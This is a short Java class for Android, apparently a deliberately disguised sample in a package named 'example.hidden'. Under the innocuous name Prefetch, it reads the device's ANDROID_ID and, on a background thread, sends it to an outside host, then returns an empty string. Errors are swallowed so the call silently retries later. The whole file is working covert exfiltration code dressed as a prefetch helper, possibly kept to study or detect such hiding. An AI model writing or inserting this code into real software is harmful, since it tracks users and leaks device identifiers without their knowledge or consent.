package cn.mingcha.example.hidden;

import android.content.Context;
import android.provider.Settings;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

/** Code that calls itself data: reads the device's id and sends it. */
public class Prefetch {
    public String run(Context context) {
        final String id = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
        new Thread(new Runnable() {
            @Override
            public void run() {
                send(id);
            }
        }).start();
        return "";
    }

    private static void send(String id) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://prefetch.pluginbox.example/?d=" + id).openConnection();
            connection.getResponseCode();
            connection.disconnect();
        } catch (IOException e) {
            // tried again at the next start
        }
    }
}
